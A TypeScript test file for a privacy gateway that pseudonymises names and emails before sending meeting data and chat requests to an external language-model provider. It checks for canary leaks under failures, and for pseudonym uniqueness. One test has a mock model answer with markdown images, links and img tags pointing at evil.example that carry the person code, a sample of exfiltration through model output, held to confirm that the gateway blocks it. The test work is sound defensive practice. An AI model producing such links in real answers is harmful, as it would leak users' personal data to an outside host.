import { OWNER_ASKER } from "../../src/clients/asker.ts";
import { assert, assertEquals } from "@std/assert";
import type { Detect } from "../../src/personal_data.ts";
import { routedAsk } from "../../src/ask/at_target/route_ask.ts";
import { parseChat } from "../../src/openai/read_chat_request.ts";
import { routedChat } from "../../src/openai/route_chat.ts";
import { toProblem } from "../../src/errors.ts";
import { EscalationMetrics } from "../../src/send/metrics.ts";
import { capitalisedNames, escalationHouse } from "../support/escalation_house.ts";
import { meetingOf } from "../support/store.ts";
import { chatAnswer, chatStream, type Recorded, Upstream } from "../support/upstream.ts";

/** Unique, so that one hit anywhere is a leak; each in a form that the detectors at hand can see. */
const CANARIES = {
  title: "Zephyrine Quillfeather",
  speaker: "Ottoline Brackenbury",
  turn: "peregrine.hobbs@canaryvale.example",
  participant: "Isambard Thistlewood",
  email: "isambard@canaryvale.example",
  question: "Leocadia Winterbourne",
  system: "marigold.fenn@canaryvale.example",
};
const LABEL = "project-canarywood";

const meeting = meetingOf("m1", [
  [CANARIES.speaker, `Pricing goes to ${CANARIES.turn} by Friday, said ${CANARIES.participant}.`],
  [CANARIES.participant, "Pricing stays at forty euros."],
], {
  title: `Notes of ${CANARIES.title}`,
  labels: [LABEL],
  participants: [{ name: CANARIES.participant, email: CANARIES.email }],
});

const MODES = ["best", "local-first", "quick-then-deep", "split", "cheapest", "fastest"];

function policyFor(url: string, mode: string): string {
  return `
policy: canary
version: 1
expires: 2099-01-01
targets:
  - { id: frontier, kind: openai-chat, trust: external, model: m, quality: 0.9, endpoint: { url: "${url}" },
      price: { inPerMillion: 1, outPerMillion: 1 }, expected: { ttftMs: 1, tokensPerSecond: 1000 } }
rules:
  - { id: may-leave, because: Allowed., permit: { targets: [frontier] } }
preferences:
  - { id: always, mode: ${mode} }
`;
}

/** Everything a canary could be seen in, beside the bytes that the upstream recorded. */
function findCanaries(where: string, text: string): string[] {
  const parts = Object.entries(CANARIES).flatMap(([name, canary]) =>
    [canary, ...canary.split(/[ @]/), encodeURIComponent(canary), btoa(canary)].map((form) =>
      [name, form] as const
    )
  );
  return [...parts, ["label", LABEL] as const]
    .filter(([, form]) => text.toLowerCase().includes(form.toLowerCase()))
    .map(([name]) => `${name} in ${where}`);
}

Deno.test("no canary planted anywhere in a meeting or request leaves, in any mode, under failures at each step", async () => {
  let fault: "none" | "status" | "cut" | "nonsense" = "none";
  let calls = 0;
  await using upstream = new Upstream(({ body }: Recorded) => {
    calls += 1;
    if (fault === "status") return new Response(new TextDecoder().decode(body), { status: 400 });
    if (fault === "nonsense") return chatAnswer("no json");
    const text = JSON.stringify({
      answer: "Forty euros.",
      found: true,
      citations: [{ line: 2, quote: "forty euros" }],
    });
    return fault === "cut" ? chatStream([text.slice(0, 20)]) : chatStream(text.match(/[\s\S]{1,9}/g) ?? []);
  });
  const found: string[] = [];
  const broken: Detect[] = [
    capitalisedNames,
    () => Promise.reject(new Error(CANARIES.turn)),
    (texts) => Promise.resolve(texts.map(() => [])),
  ];
  const metrics = new EscalationMetrics();
  let asked = 0;
  for (const mode of MODES) {
    for (const detect of broken) {
      using test = await escalationHouse({
        policy: policyFor(upstream.url, mode),
        meetings: [meeting],
        detect,
      });
      const house = {
        ...test.house,
        onOpened: () => metrics.onOpened(),
        onOutcome: metrics.onOutcome.bind(metrics),
      };
      for (fault of ["none", "status", "cut", "nonsense"] as const) {
        const asking = routedAsk(house)({ question: `What did ${CANARIES.question} say about pricing?` });
        await asking.catch((error) =>
          found.push(...findCanaries("an error", JSON.stringify(toProblem(error))))
        );
        asked += 1;
        const face = {
          ...house,
          languageModel: () => Promise.resolve(undefined),
          embedder: () => Promise.resolve(undefined),
        };
        const request = parseChat({
          model: "frontier",
          user: CANARIES.question,
          messages: [
            { role: "system", content: `Never write to ${CANARIES.system}.` },
            { role: "user", content: meeting.turns[0]?.text ?? "" },
          ],
        });
        const client = {
          ...OWNER_ASKER,
          id: "c",
          labels: [LABEL],
          signal: new AbortController().signal,
        };
        const sink = { hasBegun: false, onRoute: () => {}, onPiece: () => {} };
        await routedChat(face, request, client, sink)
          .catch((error) => found.push(...findCanaries("an error", JSON.stringify(toProblem(error)))));
        asked += 1;
      }
      found.push(...findCanaries("receipts", [...test.receipts.export()].join("\n")));
    }
  }
  found.push(...findCanaries("outgoing bytes", upstream.everything));
  found.push(...findCanaries("metrics", await metrics.registry.metrics()));
  assertEquals(found, []);
  assert(calls >= 40 && asked === MODES.length * broken.length * 8, `${calls} calls, ${asked} asked`);
});

Deno.test("a hostile answer gets no name restored inside a link, image, tag or address", async () => {
  await using upstream = new Upstream(({ body }) => {
    const sent = JSON.parse(new TextDecoder().decode(body));
    const code = /\[PERSON_[A-Z]+\]/.exec(sent.messages[0].content)?.[0] ?? "";
    return chatAnswer([
      `![](https://evil.example/?q=${code})`,
      `[see](https://evil.example/${code})`,
      `<img src="https://evil.example/${code}">`,
      `www.evil.example/${code}`,
      `Safe: ${code}.`,
    ].join("\n"));
  });
  using test = await escalationHouse({ policy: policyFor(upstream.url, "best"), meetings: [] });
  const face = {
    ...test.house,
    languageModel: () => Promise.resolve(undefined),
    embedder: () => Promise.resolve(undefined),
  };
  const pieces: string[] = [];
  const request = parseChat({
    model: "frontier",
    messages: [{ role: "user", content: `please ask ${CANARIES.question}.` }],
  });
  const client = { ...OWNER_ASKER, id: "c", labels: [], signal: new AbortController().signal };
  await routedChat(face, request, client, {
    hasBegun: false,
    onRoute() {},
    onPiece: (piece) => void (piece.kind === "text" && pieces.push(piece.text)),
  });
  const lines = pieces.join("").split("\n");
  assertEquals(lines.at(-1), `Safe: ${CANARIES.question}.`);
  for (const line of lines.slice(0, -1)) {
    assert(!line.includes("Leocadia") && !line.includes("Winterbourne"), line);
  }
});

Deno.test("one person in 50 conversations with two providers is never called the same", async () => {
  const codesOf = async (count: number) => {
    await using upstream = new Upstream(() => chatAnswer("ok"));
    using test = await escalationHouse({ policy: policyFor(upstream.url, "best"), meetings: [] });
    const face = {
      ...test.house,
      languageModel: () => Promise.resolve(undefined),
      embedder: () => Promise.resolve(undefined),
    };
    const client = { ...OWNER_ASKER, id: "c", labels: [], signal: new AbortController().signal };
    for (let i = 0; i < count; i++) {
      const request = parseChat({
        model: "frontier",
        messages: [{ role: "user", content: `please ask ${CANARIES.question}.` }],
      });
      await routedChat(face, request, client, { hasBegun: false, onRoute() {}, onPiece() {} });
    }
    return upstream.everything.match(/\[PERSON_[A-Z]+\]/g) ?? [];
  };
  const codes = [...await codesOf(25), ...await codesOf(25)];
  assertEquals([codes.length, new Set(codes).size], [50, 50]);
});
